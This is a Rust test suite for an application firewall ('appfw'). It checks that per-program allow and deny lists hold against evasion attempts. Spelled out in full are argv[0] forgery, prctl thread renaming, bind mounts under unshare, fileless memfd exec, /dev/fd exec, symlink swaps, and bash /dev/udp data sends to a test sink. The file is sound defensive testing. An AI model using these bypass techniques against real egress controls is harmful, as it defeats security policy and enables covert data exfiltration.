//! A program is the file the kernel executed. Each attack runs as the
//! unprivileged user against the sink with appfw in the client namespace,
//! and must not get one byte through; next to it a positive control shows
//! that what the policy allows does arrive. The attacks are those measured
//! against appfw's earlier path- and argv-based naming.

use std::{
    ffi::OsStr,
    fs,
    os::unix::{ffi::OsStrExt, fs::PermissionsExt},
    path::Path,
    process::Output,
    time::Duration,
};

use crate::{enforcement::send_script, testbed::*};

/// How long a blocked marker is waited for (a drop makes TCP senders time
/// out after 3 s; UDP ones exit at once).
const BLOCKED_WAIT: Duration = Duration::from_secs(3);
const ALLOWED_WAIT: Duration = Duration::from_secs(5);

fn sink_url() -> String {
    format!("http://{SERVER_V4}:{SINK_PORT}/")
}

fn run(cmd: &mut std::process::Command) -> Output {
    cmd.output().expect("running the attacker's program")
}

/// Positive control: curl, as the attacker, posts `marker` to the sink.
fn curl_posts(bed: &Bed, marker: &str) {
    let out =
        run(bed
            .as_attacker(curl())
            .args(["-sS", "--max-time", "3", "-d", marker, &sink_url()]));
    assert!(
        bed.sink_got(marker, ALLOWED_WAIT),
        "the allowed curl's payload did not arrive: {out:?}\nsink: {}",
        bed.sink_received()
    );
}

/// Runs `cmd` to its end while appfw is stopped (SIGSTOP): its packets wait
/// in the queue (appfw still holds it, so nothing bypasses it) and are
/// judged after the process exited, from what the kernel recorded. Only
/// for UDP senders, which do not wait for an answer.
fn judged_after_exit(d: &Daemon, cmd: &mut std::process::Command) -> Output {
    d.signal(libc::SIGSTOP);
    let out = cmd.output();
    d.signal(libc::SIGCONT);
    out.expect("running the attacker's program")
}

fn assert_blocked(bed: &Bed, marker: &str, out: &Output) {
    assert!(
        !bed.sink_got(marker, BLOCKED_WAIT),
        "the attack got through: {out:?}\nsink: {}",
        bed.sink_received()
    );
}

/// A file only the attacker's programs use, world-readable.
fn write_file(path: &Path, text: &str, mode: u32) {
    fs::write(path, text).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

fn whitelist(entries: &[&str]) -> String {
    let list: Vec<String> = entries.iter().map(|e| format!("{e:?}")).collect();
    format!("[global]\nwhitelist = [{}]\n", list.join(", "))
}

fn blacklist(entries: &[&str]) -> String {
    let list: Vec<String> = entries.iter().map(|e| format!("{e:?}")).collect();
    format!("[global]\nblacklist = [{}]\n", list.join(", "))
}

#[test]
fn forged_argv0_does_not_pass_a_command_entry() {
    let mut bed = Bed::new();
    bed.sink();
    // curl takes a scheme-less URL: its argv starts with the entry's words.
    let target = format!("{SERVER_V4}:{SINK_PORT}");
    let d = Daemon::start(
        &bed,
        &["-w"],
        Some(&whitelist(&[&format!("curl {target}")])),
    );
    let out = run(bed.as_attacker(curl()).args([
        &target,
        "-sS",
        "--max-time",
        "3",
        "-d",
        "argv0-allowed",
    ]));
    assert!(
        bed.sink_got("argv0-allowed", ALLOWED_WAIT),
        "curl {target} is whitelisted and must arrive: {out:?}\nsink: {}",
        bed.sink_received()
    );

    // `exec -a curl python3 <target>`: python runs a script file named like
    // the entry's second word, with argv [curl, <target>].
    let dir = bed.attacker_dir();
    write_file(
        &dir.join(&target),
        &send_script("tcp", SERVER_V4, "argv0-forged"),
        0o644,
    );
    let out = run(bed.as_attacker("/usr/bin/bash").args([
        "-c",
        "cd \"$1\" && exec -a curl \"$2\" \"$3\"",
        "bash",
        dir.to_str().unwrap(),
        python(),
        &target,
    ]));
    assert_blocked(&bed, "argv0-forged", &out);
    // Named by what it is, with the forged words as its command.
    d.wait_trace_line(&[
        &format!(
            "'{}' (or 'curl {target}') is not in whitelist -> DROP.",
            python_exe()
        ),
        "('tcp', ",
    ]);
}

#[test]
fn forged_thread_name_and_unreadable_argv_do_not_pass() {
    let mut bed = Bed::new();
    bed.sink();
    let d = Daemon::start(&bed, &["-w"], Some(&whitelist(&["curl"])));
    // A non-UTF-8 argument does not make curl unknown.
    let out = run(bed.as_attacker(curl()).args([
        OsStr::new("-sS"),
        OsStr::new("--max-time"),
        OsStr::new("3"),
        OsStr::new("-H"),
        OsStr::from_bytes(b"X-Bytes: \xff\xfe"),
        OsStr::new("-d"),
        OsStr::new("comm-allowed"),
        OsStr::new(&sink_url()),
    ]));
    assert!(
        bed.sink_got("comm-allowed", ALLOWED_WAIT),
        "whitelisted curl with a non-UTF-8 argument must arrive: {out:?}\nsink: {}",
        bed.sink_received()
    );
    // python renames its thread "curl" and carries a non-UTF-8 argument:
    // the command line is unreadable as text, the thread name says curl.
    for proto in ["tcp", "udp"] {
        let marker = format!("comm-forged-{proto}");
        let script = format!(
            "import ctypes\n\
             ctypes.CDLL(None).prctl(15, b'curl', 0, 0, 0)\n{}",
            send_script(proto, SERVER_V4, &marker)
        );
        let out = run(bed.as_attacker(python()).args([
            OsStr::new("-c"),
            OsStr::new(&script),
            OsStr::from_bytes(b"\xff"),
        ]));
        assert_blocked(&bed, &marker, &out);
        d.wait_trace_line(&[&format!(
            "'{}' (or '{} -c') is not in whitelist -> DROP. ('{proto}', ",
            python_exe(),
            python()
        )]);
    }
}

#[test]
fn bind_mount_over_a_whitelisted_path_is_not_that_program() {
    let mut bed = Bed::new();
    bed.sink();
    let wget = "/usr/bin/wget";
    assert!(Path::new(wget).exists(), "{wget} is needed by this test");
    let d = Daemon::start(&bed, &["-w"], Some(&whitelist(&[wget])));
    let out = run(bed.as_attacker(wget).args([
        "-q",
        "-O",
        "/dev/null",
        "--timeout=3",
        "--tries=1",
        "--post-data=wget-allowed",
        &sink_url(),
    ]));
    assert!(
        bed.sink_got("wget-allowed", ALLOWED_WAIT),
        "whitelisted wget must arrive: {out:?}\nsink: {}",
        bed.sink_received()
    );
    // In its own user and mount namespace the attacker puts an interpreter
    // over /usr/bin/wget and runs "/usr/bin/wget": the path, the thread
    // name and argv[0] all say wget.
    let python_attack = send_script("tcp", SERVER_V4, "bind-python");
    // UDP: a dropped bash /dev/tcp connect would wait minutes for TCP.
    let bash_attack = format!("echo bind-bash > /dev/udp/{SERVER_V4}/{SINK_PORT}");
    for (interpreter, attack, marker) in [
        (python_exe(), python_attack, "bind-python"),
        ("/usr/bin/bash".to_owned(), bash_attack, "bind-bash"),
    ] {
        let out = run(bed.as_attacker("/usr/bin/unshare").args([
            "-Urm",
            "/usr/bin/sh",
            "-c",
            &format!("mount --bind {interpreter} {wget} && exec {wget} -c \"$1\""),
            "sh",
            &attack,
        ]));
        assert_blocked(&bed, marker, &out);
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            !err.contains("mount:"),
            "the bind mount itself failed, so nothing was tested: {err}"
        );
    }
    // The path it claimed is shown with the file it really was.
    let line = d.wait_trace_line(&["(or '/usr/bin/wget -c') is not in whitelist -> DROP."]);
    assert!(line.contains(" - '/usr/bin/wget (device "), "{line}");
}

#[test]
fn exec_through_dev_fd_and_memfd_is_the_file_executed() {
    let mut bed = Bed::new();
    bed.sink();
    // A blacklisted interpreter exec'd through /dev/fd/N is still it.
    let d = Daemon::start(&bed, &["-b"], Some(&blacklist(&["/usr/bin/python3"])));
    curl_posts(&bed, "devfd-allowed");
    let script = send_script("udp", SERVER_V4, "devfd-python");
    let out = judged_after_exit(
        &d,
        bed.as_attacker("/usr/bin/bash").args([
            "-c",
            "exec 3<\"$1\"; exec /dev/fd/3 -c \"$2\"",
            "bash",
            &python_exe(),
            &script,
        ]),
    );
    assert_blocked(&bed, "devfd-python", &out);
    d.wait_trace_line(&["'/dev/fd/3 (device ", "is in blacklist -> DROP. ('udp', "]);
    drop(d);

    // A whitelist: a copy of bash in a memfd, exec'd through
    // /proc/self/fd/N with argv[0] "curl", is not curl.
    let d = Daemon::start(&bed, &["-w"], Some(&whitelist(&["/usr/bin/curl"])));
    curl_posts(&bed, "memfd-allowed");
    let launcher = format!(
        "import os\n\
         fd = os.memfd_create('curl', 0)\n\
         os.write(fd, open('/usr/bin/bash', 'rb').read())\n\
         os.execv('/proc/self/fd/%d' % fd, ['curl', '-c', 'echo memfd-bash > /dev/udp/{SERVER_V4}/{SINK_PORT}'])\n"
    );
    let out = judged_after_exit(&d, bed.as_attacker(python()).args(["-c", &launcher]));
    assert_blocked(&bed, "memfd-bash", &out);
    assert!(
        !String::from_utf8_lossy(&out.stderr).contains("Traceback"),
        "the memfd exec itself failed, so nothing was tested: {out:?}"
    );
}

#[test]
fn symlink_swapped_after_exec_is_not_the_new_target() {
    let mut bed = Bed::new();
    bed.sink();
    let d = Daemon::start(&bed, &["-w"], Some(&whitelist(&["/usr/bin/curl"])));
    curl_posts(&bed, "symlink-allowed");
    // python started through a symlink that, once it runs, points at curl;
    // it sends a datagram and exits before appfw judges it.
    let dir = bed.attacker_dir();
    let link = dir.join("prog");
    let script = format!(
        "import os\n\
         os.remove({link:?})\n\
         os.symlink('/usr/bin/curl', {link:?})\n{}",
        send_script("udp", SERVER_V4, "symlink-swapped"),
        link = link.to_str().unwrap()
    );
    let out = judged_after_exit(
        &d,
        bed.as_attacker("/usr/bin/bash").args([
            "-c",
            "ln -s \"$1\" \"$2\" && exec \"$2\" -c \"$3\"",
            "bash",
            &python_exe(),
            link.to_str().unwrap(),
            &script,
        ]),
    );
    assert!(out.status.success(), "the attack did not run: {out:?}");
    assert_eq!(
        fs::read_link(&link).unwrap(),
        Path::new("/usr/bin/curl"),
        "the symlink was not swapped"
    );
    assert_blocked(&bed, "symlink-swapped", &out);
    // The path now leads to curl: the report must not say curl.
    let line = d.wait_trace_line(&["is not in whitelist -> DROP. ('udp', "]);
    assert!(
        line.contains(&format!("'{} (device ", link.display())),
        "{line}"
    );
}

#[test]
fn scripts_of_a_blacklisted_interpreter_are_blocked_exited_or_alive() {
    let mut bed = Bed::new();
    bed.sink();
    let d = Daemon::start(&bed, &["-b"], Some(&blacklist(&["/usr/bin/python3"])));
    curl_posts(&bed, "script-allowed");
    let dir = bed.attacker_dir();
    // One sends and exits at once (judged after it exited), one stays.
    let quick = dir.join("quick.py");
    write_file(
        &quick,
        &format!(
            "#!/usr/bin/python3\n{}",
            send_script("udp", SERVER_V4, "script-exited")
        ),
        0o755,
    );
    let stay = dir.join("stay.py");
    write_file(
        &stay,
        &format!(
            "#!/usr/bin/python3\nimport time\n{}time.sleep(6)\n",
            send_script("udp", SERVER_V4, "script-alive")
        ),
        0o755,
    );
    let out = judged_after_exit(&d, &mut bed.as_attacker(quick.to_str().unwrap()));
    assert_blocked(&bed, "script-exited", &out);
    let mut alive = bed
        .as_attacker(stay.to_str().unwrap())
        .spawn()
        .expect("starting the script");
    let pid = alive.id();
    assert!(
        !bed.sink_got("script-alive", BLOCKED_WAIT),
        "the live script got through: {}",
        bed.sink_received()
    );
    assert!(
        alive.try_wait().unwrap().is_none(),
        "the script (setpriv pid {pid}) was meant to be alive when judged"
    );
    let _ = alive.wait();
    // Both are named alike: the interpreter, the script in the command.
    for script in [&quick, &stay] {
        d.wait_trace_line(&[&format!(
            "'{}' (or '/usr/bin/python3 {}') is in blacklist -> DROP. ('udp', ",
            python_exe(),
            script.display()
        )]);
    }
}

#[test]
fn entry_of_a_missing_file_is_warned_about_and_found_at_reload() {
    let mut bed = Bed::new();
    bed.sink();
    let bin = bed.dir.join("bin");
    fs::create_dir_all(&bin).unwrap();
    let mine = bin.join("mycurl");
    let mine_s = mine.to_str().unwrap().to_owned();
    let d = Daemon::start(&bed, &["-w"], Some(&whitelist(&[&mine_s])));
    assert!(
        d.stderr_text()
            .contains(&format!("whitelist entry \"{mine_s}\" names no executable")),
        "{}",
        d.stderr_text()
    );
    // Now the file appears: a copy of curl, which is another file than
    // /usr/bin/curl. At reload the entry names it, and only it.
    fs::copy(curl(), &mine).unwrap();
    fs::set_permissions(&mine, fs::Permissions::from_mode(0o755)).unwrap();
    d.signal(libc::SIGHUP);
    wait_for(Duration::from_secs(5), "the reload", || {
        d.stderr_text()
            .contains("configuration reloaded")
            .then_some(())
    });
    let out = run(bed.as_attacker(&mine_s).args([
        "-sS",
        "--max-time",
        "3",
        "-d",
        "reload-allowed",
        &sink_url(),
    ]));
    assert!(
        bed.sink_got("reload-allowed", ALLOWED_WAIT),
        "the entry's file, present at reload, must be allowed: {out:?}\nsink: {}",
        bed.sink_received()
    );
    let out = run(bed.as_attacker(curl()).args([
        "-sS",
        "--max-time",
        "3",
        "-d",
        "reload-other",
        &sink_url(),
    ]));
    assert_blocked(&bed, "reload-other", &out);
}

#[test]
fn shipped_example_configuration_loads_where_its_programs_are_missing() {
    let bed = Bed::new();
    let example = include_str!("../../../config/appfw.toml");
    assert!(
        !Path::new("/usr/sbin/sshd").exists(),
        "this test expects a machine without /usr/sbin/sshd"
    );
    let d = Daemon::start(&bed, &["-w"], Some(example));
    assert!(
        d.stderr_text()
            .contains("whitelist entry \"/usr/sbin/sshd\" names no executable"),
        "{}",
        d.stderr_text()
    );
    d.stop();
}

#[test]
fn replaced_listed_file_is_followed_and_its_running_instances_keep_matching() {
    let mut bed = Bed::new();
    bed.sink();
    let bin = bed.dir.join("bin");
    fs::create_dir_all(&bin).unwrap();
    let tool = bin.join("tool");
    let tool_s = tool.to_str().unwrap().to_owned();
    fs::copy("/usr/bin/bash", &tool).unwrap();
    fs::set_permissions(&tool, fs::Permissions::from_mode(0o755)).unwrap();
    let d = Daemon::start(&bed, &["-w"], Some(&whitelist(&[&tool_s])));
    let dir = bed.attacker_dir();
    let go = dir.join("go");
    let send = |marker: &str| format!("echo {marker} > /dev/udp/{SERVER_V4}/{SINK_PORT}");
    // An instance of the old file, waiting to send until told.
    let old = bed
        .as_attacker(&tool_s)
        .args([
            "-c",
            &format!(
                "while [ ! -e {} ]; do sleep 0.1; done; {}",
                go.display(),
                send("old-instance")
            ),
        ])
        .spawn()
        .unwrap();
    bed.adopt(old);
    // A package upgrade: the new file is renamed over the old path.
    let staged = bin.join("tool.new");
    fs::copy("/usr/bin/bash", &staged).unwrap();
    fs::set_permissions(&staged, fs::Permissions::from_mode(0o755)).unwrap();
    fs::rename(&staged, &tool).unwrap();
    wait_for(Duration::from_secs(15), "appfw to see the new file", || {
        d.stderr_text()
            .contains("a listed file changed")
            .then_some(())
    });
    let out = run(bed.as_attacker(&tool_s).args(["-c", &send("new-instance")]));
    assert!(
        bed.sink_got("new-instance", ALLOWED_WAIT),
        "the new file at the listed path must be allowed without a reload: {out:?}\nsink: {}",
        bed.sink_received()
    );
    write_file(&go, "", 0o644);
    assert!(
        bed.sink_got("old-instance", ALLOWED_WAIT),
        "the instance still running the replaced file must keep matching: {}",
        bed.sink_received()
    );
    // bash itself is another file, never listed.
    let out = run(bed
        .as_attacker("/usr/bin/bash")
        .args(["-c", &send("bash-itself")]));
    assert_blocked(&bed, "bash-itself", &out);
}
